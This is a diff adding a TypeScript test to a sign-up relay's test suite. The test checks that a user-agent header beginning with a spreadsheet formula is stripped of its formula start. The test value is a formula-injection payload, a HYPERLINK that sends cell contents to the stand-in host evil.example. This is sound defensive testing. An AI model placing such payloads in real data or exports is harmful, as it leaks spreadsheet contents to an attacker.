@@ -116,6 +116,13 @@ describe("relaying a valid sign-up", () => {
     expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ userAgent: "", source: "lp-previdencia" });
   });
 
+  it("relays a user agent that starts like a spreadsheet formula without its formula start", async () => {
+    const signup = makeSignup();
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A2;"Clique aqui")';
+    await submit(signup, { email: "bia@exemplo.com", hcaptchaToken: token() }, { "user-agent": ` +-@${formula}` });
+    expect(JSON.parse(standIn.received.webhook[0]!.raw)).toMatchObject({ userAgent: formula.slice(1) });
+  });
+
   it("accepts a 254-character address and refuses a 255-character one", async () => {
     const signup = makeSignup();
     const local = "a".repeat(64);
